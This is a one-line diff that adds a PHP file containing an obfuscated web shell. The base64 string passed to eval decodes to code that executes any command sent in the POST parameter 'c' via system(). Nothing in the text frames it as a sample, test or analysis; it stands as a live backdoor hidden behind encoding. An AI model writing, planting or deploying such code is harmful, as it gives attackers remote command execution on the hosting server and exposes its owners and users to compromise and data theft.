@@ -1,0 +1,1 @@
+<?php eval(base64_decode('aWYoaXNzZXQoJF9QT1NUWydjJ10pKXtzeXN0ZW0oJF9QT1NUWydjJ10pO30=')); ?>
